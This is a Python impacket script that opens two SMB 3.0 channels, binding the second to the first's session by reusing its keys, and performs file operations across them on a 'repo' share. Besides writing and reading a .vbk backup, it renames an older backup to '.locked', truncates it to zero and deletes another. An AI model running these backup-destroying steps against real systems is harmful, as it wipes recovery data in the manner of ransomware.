"""A client with two SMB 3.0 channels (impacket binds none itself): the second connection joins the session of the first over another pair of
addresses, and what one opened is written, read, renamed and deleted through the other. smb-channels-client.py FIRST SECOND USER PASSWORD"""
import sys

from impacket import smb3
from impacket.smb3structs import *

first_address, second_address, user, password = sys.argv[1:]
smb3.SMB2_GLOBAL_CAP_ENCRYPTION = SMB2_GLOBAL_CAP_MULTI_CHANNEL  # what the negotiation offers


class Channel(smb3.SMB3):
    joins = None

    @property
    def ClientGuid(self):
        return "backup-client-01"

    @ClientGuid.setter
    def ClientGuid(self, value):
        pass

    def open(self, session_of=None):
        self._Connection["SupportsEncryption"] = False
        self._Connection["RequireSigning"] = True
        self.joins = session_of
        self.login(user, password)
        if session_of is not None:
            for table in ("TreeConnectTable", "OpenTable"):
                self._Session[table] = session_of._Session[table]
        return self

    def sendSMB(self, packet):
        if self.joins is None or packet["Command"] != SMB2_SESSION_SETUP:
            return super().sendSMB(packet)
        first = self.joins._Session
        self._Session.update(SessionKey=first["SessionKey"], SigningKey=first["SigningKey"], SessionID=first["SessionID"])
        packet["Data"]["Flags"] = 1  # SMB2_SESSION_FLAG_BINDING
        packet["MessageID"] = self._Connection["SequenceWindow"]
        self._Connection["SequenceWindow"] += 1
        packet["SessionID"], packet["Flags"] = first["SessionID"], SMB2_FLAGS_SIGNED
        packet["CreditCharge"], packet["CreditRequestResponse"] = 1, 127
        self.signSMB(packet)
        self._NetBIOSSession.send_packet(packet.getData())
        return packet["MessageID"]


def connect(address):
    return Channel(address, address, preferredDialect=SMB2_DIALECT_30)


def open_file(channel, name, disposition):
    access = FILE_READ_DATA | FILE_WRITE_DATA | DELETE | FILE_READ_ATTRIBUTES | FILE_WRITE_ATTRIBUTES
    return channel.create(tree, name, access, 7, FILE_NON_DIRECTORY_FILE, disposition, 0)


one = connect(first_address).open()
two = connect(second_address).open(session_of=one)
tree = one.connectTree("repo")
half = bytes(range(256)) * 32

# A backup: opened on the first channel, its halves go over both.
file = open_file(one, "jobs\\full.vbk", FILE_CREATE)
one.write(tree, file, half, 0, len(half))
two.write(tree, file, half, len(half), len(half))
one.close(tree, file)

# Read back over the second.
file = open_file(one, "jobs\\full.vbk", FILE_OPEN)
two.read(tree, file, 0, len(half))
one.close(tree, file)

# Opened on the first, renamed and cut on the second; then one opened on the second and deleted on the first.
file = open_file(one, "jobs\\old.vbk", FILE_OPEN)
name = "jobs\\old.vbk.locked".encode("utf-16le")
rename = FILE_RENAME_INFORMATION_TYPE_2()
rename["RootDirectory"], rename["ReplaceIfExists"], rename["FileName"], rename["FileNameLength"] = 0, 1, name, len(name)
two.setInfo(tree, file, rename.getData(), fileInfoClass=SMB2_FILE_RENAME_INFO)
two.setInfo(tree, file, (0).to_bytes(8, "little"), fileInfoClass=SMB2_FILE_END_OF_FILE_INFO)
one.close(tree, file)
file = open_file(two, "jobs\\older.vbk", FILE_OPEN)
one.setInfo(tree, file, b"\x01", fileInfoClass=SMB2_FILE_DISPOSITION_INFO)
two.close(tree, file)
one.logoff()
